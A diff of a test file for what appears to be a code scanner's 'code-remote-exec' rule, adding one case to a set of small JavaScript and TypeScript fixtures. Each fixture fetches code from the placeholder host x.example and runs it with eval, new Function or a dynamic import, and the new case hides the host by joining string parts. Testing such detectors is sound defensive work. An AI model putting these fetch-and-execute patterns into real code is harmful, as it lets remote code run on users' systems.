@@ -94,6 +94,7 @@ describe('JavaScript/TypeScript read as code (issue 22.2)', () => {
     flow({ 'scripts/a.js': "const r = await fetch('https://x.example/p');\nconst code = await r.text();\neval(code);\n" }, 'code-remote-exec', 3, 1);
     flow({ 'scripts/b.mjs': "fetch('https://x.example/p')\n  .then((r) => r.text())\n  .then(eval);\n" }, 'code-remote-exec', 1);
     flow({ 'scripts/c.js': "const https = require('https');\nhttps.get('https://x.example', (res) => {\n  let body = '';\n  res.on('data', (d) => { body += d; });\n  res.on('end', () => { new Function(body)(); });\n});\n" }, 'code-remote-exec', 5, 2);
+    flow({ 'scripts/e.mjs': "const host = ['x', 'example'].join('.');\nawait import('https://' + host + '/m.mjs');\n" }, 'code-remote-exec', 2);
     flow({ 'scripts/d.ts': "const res: Response = await fetch('https://x.example/m.js');\nconst src: string = await res.text();\nconst run = (s: string): unknown => eval(s);\nexport const out = eval(src as string);\n" }, 'code-remote-exec', 4, 1);
   });
 
